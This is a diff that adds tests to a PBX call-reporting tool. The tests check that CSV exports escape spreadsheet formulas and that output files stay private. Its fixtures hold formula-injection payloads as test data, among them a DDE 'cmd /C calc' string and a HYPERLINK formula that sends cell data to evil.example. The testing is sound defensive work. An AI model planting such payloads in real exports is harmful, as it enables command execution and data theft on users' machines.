@@ -5,12 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
+import stat
 from pathlib import Path
 
 import pytest
 
 from smdrd import cli
-from tests.test_reports import CALLS, write_calls
+from tests.test_reports import CALLS, Call, write_calls
 
 CONFIG = """
 [site]
@@ -149,3 +151,84 @@ def test_user_errors_exit_2_with_a_message(config: Path, tmp_path: Path, capsys:
     status, _, err = run(capsys, "report", "extensions", "--config", str(config),
                          "--database", str(tmp_path / "missing.db"))
     assert status == 2 and "no such database" in err
+
+
+#: Calls whose extension, number and trunk came from a hostile PBX line (issue 11, finding 3), and one that
+#: dialled an E.164 number, which must stay a number a person can dial.
+HOSTILE = [
+    Call("2026-03-02T10:15:00", "=1+2", "outbound", "national", 120, "0.50", trunk="@SUM(1+1)",
+         number="+cmd|' /C calc'!A0"),
+    Call("2026-03-03T10:15:00", "-2+3", "outbound", "national", 60, "0.25", trunk="\uff1dcmd|' /C calc'!A0",
+         number='=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
+    Call("2026-03-04T10:15:00", "201", "outbound", "international", 60, "1.00", trunk="T1",
+         number="+442071234567"),
+]
+
+
+@pytest.fixture
+async def hostile(tmp_path: Path) -> Path:
+    db = tmp_path / "hostile.db"
+    await write_calls(db, HOSTILE)
+    path = tmp_path / "hostile.toml"
+    path.write_text(CONFIG.format(db=db, decimals=2))
+    return path
+
+
+def _formula(cell: str) -> bool:
+    return cell.lstrip()[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20") and not cell.lstrip("+-").isdigit()
+
+
+@pytest.mark.parametrize(("kind", "raw"), [("calls", "=1+2"), ("extensions", "-2+3"), ("trunks", "@SUM(1+1)")])
+def test_csv_neutralises_formulas_from_the_pbx(hostile: Path, capsys: pytest.CaptureFixture[str], kind: str,
+                                               raw: str) -> None:
+    """A caller ID such as =HYPERLINK(...) reaches the CSV with a leading quote; +442071234567 stays as it is."""
+    status, out, _ = run(capsys, "report", kind, *MARCH, "--config", str(hostile), "--format", "csv")
+    assert status == 0
+    cells = [c for row in csv.reader(io.StringIO(out, newline="")) for c in row]
+    assert not [c for c in cells if _formula(c)], out
+    assert "'" + raw in cells
+    if kind == "calls":
+        assert {"'=1+2", "'-2+3", "'+cmd|' /C calc'!A0", '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+                "'@SUM(1+1)", "'\uff1dcmd|' /C calc'!A0", "+442071234567"} <= set(cells)
+    # the JSON is data, not a spreadsheet: it keeps the values exactly as the PBX sent them
+    _, page, _ = run(capsys, "report", kind, *MARCH, "--config", str(hostile), "--format", "json")
+    assert raw in {str(v) for row in json.loads(page)["rows"] for v in row.values()}
+
+
+async def test_to_csv_neutralises_every_row(hostile: Path) -> None:
+    """`to_csv` itself (what /api/reports/*?format=csv sends) writes no formula, whatever the report."""
+    from smdrd.config import load_config
+    from smdrd.reports.queries import KINDS, context_from, parse_query, run_report
+    from smdrd.reports.render import to_csv
+    from smdrd.reports.rollup import connect_readonly
+
+    settings = load_config(hostile, use_env=False)
+    ctx = context_from(settings)
+    conn = connect_readonly(settings.database.path)
+    try:
+        for kind in KINDS:
+            query = parse_query({"kind": [kind], "from": ["2026-03-01"], "to": ["2026-03-31"],
+                                 "direction": ["all"]}, ctx)
+            text = to_csv(run_report(conn, query, ctx))
+            assert not [c for row in csv.reader(io.StringIO(text, newline="")) for c in row if _formula(c)], text
+    finally:
+        conn.close()
+
+
+@pytest.mark.parametrize("umask", [0o000, 0o022])
+def test_output_file_is_private_whatever_the_umask(config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
+                                                   umask: int) -> None:
+    """--output holds every call's number: mode 0600 even under umask 000, also over an existing 0644 file."""
+    out_file = tmp_path / "calls.csv"
+    out_file.write_text("old")
+    out_file.chmod(0o644)
+    old = os.umask(umask)
+    try:
+        status, _, _ = run(capsys, "report", "calls", *MARCH, "--config", str(config), "--format", "csv",
+                           "--output", str(out_file))
+    finally:
+        os.umask(old)
+    assert status == 0
+    assert stat.S_IMODE(out_file.stat().st_mode) == 0o600
+    assert out_file.read_text().startswith("start,extension")
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == [], "no temporary file left"
